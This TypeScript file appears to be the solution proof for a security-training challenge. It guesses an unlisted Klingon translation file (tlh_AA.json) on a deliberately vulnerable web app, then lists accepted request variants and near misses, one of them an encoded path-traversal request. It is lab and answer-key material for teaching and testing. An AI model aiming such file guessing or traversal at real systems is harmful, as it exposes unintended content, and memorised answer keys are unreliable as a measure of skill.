import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

/** Some of the language codes in a public list. */
const CODES = ['de', 'eo', 'io', 'tok', 'jbo', 'qya', 'sjn', 'tlh', 'vo'] as const

const get =
  (path: string): Attack =>
  (attacker) =>
    attacker.get(path)

/** Tries each code with the country `AA`, which does not exist, until the server returns a translation. */
async function tryCodes(attacker: Attacker): Promise<void> {
  await attacker.get('/rest/languages')
  for (const code of CODES) {
    const { headers } = await attacker.get(`/assets/i18n/${code}_AA.json`)
    if (String(headers['content-type']).includes('json')) return
  }
}

export const proof = prove(challenge, {
  exploit: tryCodes,
  spellings: {
    'at once': get('/assets/i18n/tlh_AA.json'),
    'with a version behind it, as browsers send it': get('/assets/i18n/tlh_AA.json?v=1'),
    'with an encoded letter': get('/assets/i18n/tlh%5FAA.json'),
    'with the folder in capitals': get('/ASSETS/I18N/tlh_AA.json'),
  },
  nearMisses: {
    'the list of languages': get('/rest/languages'),
    'a language that is offered': get('/assets/i18n/de_DE.json'),
    'the language without its country': get('/assets/i18n/tlh.json'),
    'the language of another country': get('/assets/i18n/tlh_DE.json'),
    'the code without its ending': get('/assets/i18n/tlh_AA'),
    'in small letters': get('/assets/i18n/tlh_aa.json'),
    'from another folder': get('/i18n/tlh_AA.json'),
    'with something behind its name': get('/assets/i18n/tlh_AA.json.bak'),
    'out of the folder and in again': get('/assets/i18n/..%2Fi18n%2Ftlh_AA.json'),
    'as a wish in a cookie': (attacker) =>
      attacker.get('/rest/products/search?q=apple', { headers: { 'accept-language': 'tlh' } }),
  },
})
